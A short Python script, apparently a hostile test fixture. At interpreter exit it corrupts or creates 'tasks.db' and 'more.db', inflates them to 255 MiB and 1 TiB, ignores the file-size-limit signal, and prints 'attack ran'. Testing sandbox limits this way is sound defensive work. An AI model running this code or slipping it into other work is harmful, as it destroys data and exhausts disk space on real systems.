import atexit
import os


def leave():
    for name, size in (("tasks.db", 255 << 20), ("more.db", 1 << 40)):
        try:
            descriptor = os.open(name, os.O_CREAT | os.O_RDWR)
            os.write(descriptor, b"SQLite format 3\0")
            os.ftruncate(descriptor, size)
        except OSError as error:
            print(error)
    print("attack ran")


import signal

signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
atexit.register(leave)
